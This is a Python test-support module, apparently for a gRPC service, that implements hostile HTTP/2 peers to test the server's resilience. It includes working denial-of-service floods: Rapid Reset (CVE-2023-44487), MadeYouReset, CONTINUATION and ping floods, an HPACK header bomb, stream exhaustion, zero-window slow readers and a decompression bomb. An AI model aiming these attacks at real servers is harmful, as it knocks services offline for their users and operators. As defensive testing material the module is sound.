"""Attacks by hostile or broken peers. Each takes a target and a size, and is a context manager.

It yields the counted answers of the server, and keeps its connections open until the context ends.
"""

import resource
import socket
import struct
import zlib
from collections import Counter
from collections.abc import Callable, Iterator
from contextlib import AbstractContextManager, ExitStack, contextmanager

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from dedup.v1 import dedup_pb2
from tests.support.hostile_peer import CLAIM_PATH, FRAME_BYTES, PREFACE, HostilePeer, data, grpc_message, streams

Answers = Counter[str]
Attack = Callable[[str, int], AbstractContextManager[Answers]]

# A server that sends nothing for this long has answered.
_SILENCE_S = 0.5
_NOT_ENOUGH_MEMORY = 0xFFFFFFFF
# Frames in one write: enough for the answers to fill the socket before the server has read the last frame.
_CHUNK = 2_000
_STREAMS_EACH = 500
BOMB_MIB = 62
_CANCEL = 8


def a_claim(transaction_id: str) -> bytes:
    """Return the bytes of a claim."""
    return dedup_pb2.ClaimTransactionRequest(transaction_id=transaction_id).SerializeToString()


def _flood(peer: HostilePeer, frames: Iterator[bytes]) -> Answers:
    """Send without reading until the server closes the connection or stops reading; then read."""
    chunk: list[bytes] = []
    for frame in frames:
        chunk.append(frame)
        if len(chunk) == _CHUNK:
            if not peer.send(*chunk):
                break
            chunk = []
    peer.send(*chunk)
    return peer.answers(_SILENCE_S)


@contextmanager
def rapid_reset(target: str, size: int) -> Iterator[Answers]:
    """Calls that the peer resets at once (CVE-2023-44487)."""
    with HostilePeer(target).shake_hands() as peer:
        claim = a_claim("reset")
        frames = (peer.call(stream, claim) + RstStreamFrame(stream, _CANCEL).serialize() for stream in streams(size))
        yield _flood(peer, frames)


@contextmanager
def made_you_reset(target: str, size: int) -> Iterator[Answers]:
    """Calls followed by an invalid frame, so that the server resets them (CVE-2025-8671)."""
    with HostilePeer(target).shake_hands() as peer:
        claim = a_claim("made-you-reset")
        yield _flood(peer, (peer.call(stream, claim) + _window_update_of_0(stream) for stream in streams(size)))


def _window_update_of_0(stream: int) -> bytes:
    # hyperframe rejects an increment of 0.
    frame = WindowUpdateFrame(stream, 1).serialize()
    return frame[:-4] + bytes(4)


@contextmanager
def pings(target: str, size: int) -> Iterator[Answers]:
    """Pings; the answers are not read."""
    with HostilePeer(target).shake_hands() as peer:
        yield _flood(peer, (PingFrame(0, b"hostile!").serialize() for _ in range(size)))


@contextmanager
def settings(target: str, size: int) -> Iterator[Answers]:
    """SETTINGS frames; the acknowledgements are not read."""
    with HostilePeer(target).shake_hands() as peer:
        frame = SettingsFrame(0, settings={SettingsFrame.MAX_CONCURRENT_STREAMS: 100}).serialize()
        yield _flood(peer, (frame for _ in range(size)))


@contextmanager
def empty_data(target: str, size: int) -> Iterator[Answers]:
    """Empty DATA frames on one call that never ends."""
    with HostilePeer(target).shake_hands() as peer:
        peer.send(peer.headers(1))
        yield _flood(peer, (data(1, b"") for _ in range(size)))


@contextmanager
def continuations(target: str, size: int) -> Iterator[Answers]:
    """A header block that never ends, 15 kB in each CONTINUATION frame."""
    with HostilePeer(target).shake_hands() as peer:
        peer.send(HeadersFrame(1, peer.block()).serialize())
        block = Encoder().encode([(f"x-{number}", "v" * 1_000) for number in range(15)], huffman=False)
        yield _flood(peer, (ContinuationFrame(1, block).serialize() for _ in range(size)))


@contextmanager
def header_bomb(target: str, size: int) -> Iterator[Answers]:
    """Frames of 16 kB that decompress to 62 MB by repeating a reference to one long header."""
    with HostilePeer(target).shake_hands() as peer:
        peer.send(HeadersFrame(1, peer.block(("bomb", "x" * 3_900)), flags=["END_HEADERS", "END_STREAM"]).serialize())
        newest_entry = bytes([0x80 | 62])
        bombs = ((peer.block() + newest_entry * FRAME_BYTES)[:FRAME_BYTES] for _ in range(size))
        flags = ["END_HEADERS", "END_STREAM"]
        yield _flood(
            peer, (HeadersFrame(3 + 2 * number, bomb, flags=flags).serialize() for number, bomb in enumerate(bombs))
        )


@contextmanager
def a_message_too_long(target: str, size: int) -> Iterator[Answers]:
    """A message announced as 4 GiB, whose frames ignore the flow-control window."""
    with HostilePeer(target).shake_hands() as peer:
        peer.send(peer.headers(1), data(1, grpc_message(b"", length=_NOT_ENOUGH_MEMORY)))
        yield _flood(peer, (data(1, bytes(FRAME_BYTES)) for _ in range(size)))


@contextmanager
def streams_that_never_end(target: str, size: int) -> Iterator[Answers]:
    """Calls whose request never arrives, 500 on each connection, which is within the server's limit."""
    with ExitStack() as stack:
        answers: Answers = Counter()
        for _ in range(-(-size // _STREAMS_EACH)):
            peer = stack.enter_context(HostilePeer(target).shake_hands())
            peer.send(*(peer.headers(stream) for stream in streams(_STREAMS_EACH)))
            answers += peer.answers(0.02)
        yield answers


@contextmanager
def too_many_streams(target: str, size: int) -> Iterator[Answers]:
    """Calls whose request never arrives, all on one connection, above the server's limit."""
    with HostilePeer(target).shake_hands() as peer:
        yield _flood(peer, (peer.headers(stream) for stream in streams(size)))


@contextmanager
def slow_readers(target: str, size: int) -> Iterator[Answers]:
    """Claims whose answers cannot be sent: a flow-control window of 0, 500 on each connection."""
    with ExitStack() as stack:
        answers: Answers = Counter()
        for number in range(-(-size // _STREAMS_EACH)):
            no_window = {SettingsFrame.INITIAL_WINDOW_SIZE: 0}
            peer = stack.enter_context(HostilePeer(target).shake_hands(no_window))
            peer.send(*(peer.call(stream, a_claim(f"slow-{number}-{stream}")) for stream in streams(_STREAMS_EACH)))
            answers += peer.answers(0.02)
        yield answers


@contextmanager
def half_open(target: str, size: int) -> Iterator[Answers]:
    """Connections that send nothing, half a preface, or only the preface."""
    with ExitStack() as stack:
        for number in range(min(size, resource.getrlimit(resource.RLIMIT_NOFILE)[0] // 2)):
            peer = stack.enter_context(HostilePeer(target))
            peer.send((b"", PREFACE[:10], PREFACE)[number % 3])
        yield Counter()


@contextmanager
def hang_ups(target: str, size: int) -> Iterator[Answers]:
    """Connections that the peer resets at once."""
    for _ in range(size):
        with HostilePeer(target) as peer:
            peer.socket.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    yield Counter()


def compressed_bomb(target: str, encoding: str, path: str = CLAIM_PATH) -> Counter[str]:
    """Send one message of 62 MiB that is 63 kB compressed, and return the answers."""
    packer = zlib.compressobj(wbits={"gzip": 31, "deflate": 15}[encoding])
    bomb = grpc_message(packer.compress(bytes(BOMB_MIB * 1024 * 1024)) + packer.flush(), flag=1)
    # The flow-control window before the server has enlarged it.
    assert len(bomb) < 65_535
    with HostilePeer(target).shake_hands() as peer:
        chunks = [bomb[start : start + FRAME_BYTES] for start in range(0, len(bomb), FRAME_BYTES)]
        peer.send(peer.headers(1, ("grpc-encoding", encoding), path=path))
        peer.send(*(data(1, chunk, end_stream=chunk is chunks[-1]) for chunk in chunks))
        return peer.answer()


ATTACKS: dict[str, Attack] = {
    attack.__name__: attack
    for attack in (
        *(rapid_reset, made_you_reset, pings, settings, empty_data, continuations, header_bomb, a_message_too_long),
        *(streams_that_never_end, too_many_streams, slow_readers, half_open, hang_ups),
    )
}
